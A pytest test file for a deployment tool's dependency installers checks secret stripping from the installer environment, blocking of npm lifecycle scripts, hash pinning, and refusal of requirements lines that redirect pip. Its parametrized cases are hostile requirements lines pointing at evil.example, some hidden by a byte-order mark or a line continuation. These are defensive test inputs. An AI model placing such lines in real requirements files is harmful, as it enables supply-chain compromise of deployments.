"""What a deploy's installers may run, see and fetch from (finding 4 of the security issue).

pip and npm run third-party code in the deploy task: they get no AWS or Airflow secrets, npm runs no
lifecycle script unless the manifest allows it, a requirements file cannot send pip to another index
unless the manifest allows it, and the dependency cache tells apart requirements whose included files
differ.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from lambdapipe.packaging import ManifestError
from lambdapipe.packaging.installer import run_installer
from lambdapipe.packaging.manifest import DependencyOptions, Manifest
from lambdapipe.packaging.node_deps import install_node_dependencies
from lambdapipe.packaging.python_deps import install_python_dependencies, requirements_cache_key
from lambdapipe.packaging.requirements_file import check_package_sources, read_requirements

PYTHON = Manifest(name="f", runtime="python3.11", handler="app.handler")


def test_installers_see_no_aws_credentials_or_airflow_connections(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "the-deploy-secret")
    monkeypatch.setenv("AIRFLOW_CONN_WAREHOUSE", "postgres://user:password@db/warehouse")
    monkeypatch.setenv("PIP_INDEX_URL", "https://pypi.example/simple")  # the installer's own settings pass
    seen = tmp_path / "environment.json"
    source = tmp_path / "requirements.txt"
    source.write_text("requests\n")

    dump = f"import json, os; open({str(seen)!r}, 'w').write(json.dumps(dict(os.environ)))"
    run_installer([sys.executable, "-c", dump], source)
    environment = json.loads(seen.read_text())

    assert "AWS_SECRET_ACCESS_KEY" not in environment
    assert "AIRFLOW_CONN_WAREHOUSE" not in environment
    assert environment["PIP_INDEX_URL"] == "https://pypi.example/simple"
    assert environment["PATH"]


def _node_function(tmp_path: Path, install_scripts: bool) -> tuple[Path, Manifest, Path]:
    """A Node.js function depending on a local package whose postinstall script writes a marker."""
    marker = tmp_path / "postinstall-ran"
    package = tmp_path / "package-with-script"
    package.mkdir(parents=True)
    (package / "postinstall.js").write_text(
        f"require('fs').writeFileSync({json.dumps(str(marker))}, 'ran')\n"
    )
    scripts = {"postinstall": "node postinstall.js"}
    (package / "package.json").write_text(
        json.dumps({"name": "with-script", "version": "1.0.0", "scripts": scripts})
    )
    function = tmp_path / "function"
    function.mkdir()
    (function / "package.json").write_text(json.dumps({"dependencies": {"with-script": f"file:{package}"}}))
    manifest = Manifest(
        name="f",
        runtime="nodejs20.x",
        handler="index.handler",
        dependencies=DependencyOptions(install_scripts=install_scripts),
    )
    return function, manifest, marker


def test_npm_runs_no_lifecycle_script_unless_the_manifest_allows_it(tmp_path: Path) -> None:
    refused = _node_function(tmp_path / "refused", install_scripts=False)
    allowed = _node_function(tmp_path / "allowed", install_scripts=True)

    installed = install_node_dependencies(refused[0], refused[1], tmp_path / "cache")
    install_node_dependencies(allowed[0], allowed[1], tmp_path / "cache")

    assert installed is not None and not refused[2].exists()
    assert allowed[2].read_text() == "ran"


URL = "a URL downloads from outside the package index"


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ("--extra-index-url https://evil.example/simple", URL),
        ("-i https://evil.example/simple", URL),
        ("-ihttps://evil.example/simple", URL),  # pip takes a short option's value attached
        ("--index https://evil.example/simple", URL),  # and any unambiguous prefix of a long one
        ("--find-links=https://evil.example/wheels", URL),
        ("payload @ https://evil.example/payload-1.0-py3-none-any.whl", URL),
        ("git+https://evil.example/payload.git", URL),
        ("-e git+https://evil.example/payload.git#egg=payload", URL),
        ("--trusted-host evil.example", "--trusted-host is not an option a deploy allows"),
        ("--trusted evil.example", "--trusted is not an option a deploy allows"),
        ("--no-binary :all:", "--no-binary is not an option a deploy allows"),  # sdists run setup.py
        ("payload==1.0 --no-binary=payload", "--no-binary is not an option a deploy allows"),
        ("--only-binary :none:", "--only-binary is not an option a deploy allows"),
        ("-e ./payload", "-e is not an option a deploy allows"),
    ],
)
def test_a_requirements_line_naming_a_source_is_refused_with_its_file_and_line(
    tmp_path: Path, line: str, named: str
) -> None:
    function = tmp_path / "f"
    function.mkdir()
    (function / "requirements.txt").write_text("# pinned\nrequests==2.32.3\n-r more.txt\n")
    (function / "more.txt").write_text(f"urllib3==2.2.2\n{line}\n")

    with pytest.raises(ManifestError) as raised:
        install_python_dependencies(function, PYTHON, tmp_path / "cache")

    assert str(raised.value).startswith(f"{(function / 'more.txt').resolve()}: line 2: {named}")
    assert "package_sources = true" in str(raised.value)
    assert not (tmp_path / "cache").exists(), "refused before any installer ran"


def test_the_manifest_can_allow_package_sources_and_hashes_are_not_sources(tmp_path: Path) -> None:
    requirements = tmp_path / "requirements.txt"
    requirements.write_text(
        "--require-hashes\n--index-url https://pypi.example/simple\n"
        "requests==2.32.3 \\\n    --hash=sha256:70761cfe03c773ceb22aa2f671b4757976145175cdfca038c02654d061d6dcc6\n"
    )
    lines = read_requirements(requirements)

    check_package_sources(lines, allowed=True)
    check_package_sources([line for line in lines if "index-url" not in line.text], allowed=False)
    with pytest.raises(ManifestError, match="line 2: a URL downloads from outside the package index"):
        check_package_sources(lines, allowed=False)


def test_the_dependency_cache_key_covers_files_the_requirements_include(tmp_path: Path) -> None:
    keys = []
    for pinned in ("urllib3==2.2.2", "urllib3==1.26.20"):
        folder = tmp_path / pinned
        folder.mkdir()
        (folder / "requirements.txt").write_text("requests==2.32.3\n-c constraints.txt\n")
        (folder / "constraints.txt").write_text(f"{pinned}\n")
        requirements = folder / "requirements.txt"
        keys.append(requirements_cache_key(requirements, read_requirements(requirements), PYTHON))

    assert keys[0] != keys[1]


@pytest.mark.parametrize(
    ("content", "hidden"),
    [
        ("\ufeff--index-url=https://evil.example/simple\n".encode(), "behind a byte-order mark"),
        (b"--index-\\\nurl https://evil.example/simple\n", "split across a continuation"),
        (b"-r\tmore.txt\n", "in a file included after a tab"),
    ],
)
def test_a_source_is_found_however_pip_would_read_it(tmp_path: Path, content: bytes, hidden: str) -> None:
    (tmp_path / "requirements.txt").write_bytes(content)
    (tmp_path / "more.txt").write_text("--extra-index-url https://evil.example/simple\n")

    with pytest.raises(ManifestError, match=URL):
        check_package_sources(read_requirements(tmp_path / "requirements.txt"), allowed=False)


def test_a_latin_1_requirements_file_is_read_as_pip_reads_it(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_bytes("# café\nrequests==2.32.3\n".encode("latin-1"))

    lines = read_requirements(tmp_path / "requirements.txt")

    assert [line.text for line in lines] == ["requests==2.32.3"]


# jmespath 1.1.0's wheel, which boto3 needs too, so it is in uv's cache on every dev machine.
JMESPATH_SHA256 = "a5663118de4908c91729bea0acadca56526eb2698e83de10cd116ae0f4e97c64"


def test_require_hashes_installs_a_dependency_only_when_its_hash_matches(tmp_path: Path) -> None:
    from lambdapipe.packaging import DependencyInstallError

    def install(name: str, digest: str) -> Path:
        function = tmp_path / name
        function.mkdir()
        (function / "requirements.txt").write_text(
            f"--require-hashes\njmespath==1.1.0 --hash=sha256:{digest}\n"
        )
        installed = install_python_dependencies(function, PYTHON, tmp_path / "cache")
        assert installed is not None
        return installed.path

    matching = install("matching", JMESPATH_SHA256)
    with pytest.raises(DependencyInstallError) as refused:
        install("tampered", "0" * 64)

    assert (matching / "jmespath" / "__init__.py").is_file()
    assert "tampered/requirements.txt" in str(refused.value)
    assert "Hash mismatch for `jmespath==1.1.0`" in str(refused.value)
